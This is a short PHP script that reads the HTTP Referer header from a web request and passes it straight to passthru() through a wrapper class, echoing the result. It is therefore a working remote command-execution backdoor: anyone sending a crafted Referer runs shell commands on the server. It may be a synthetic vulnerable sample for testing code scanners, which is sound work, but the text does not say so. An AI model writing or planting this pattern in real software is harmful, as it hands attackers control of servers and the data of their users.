<?php
if (PHP_SAPI === 'cli') exit;
$val = $_SERVER['HTTP_REFERER'];
class Tool15 { static function run($x) { return passthru($x); } }
echo call_user_func('Tool15::run', $val);
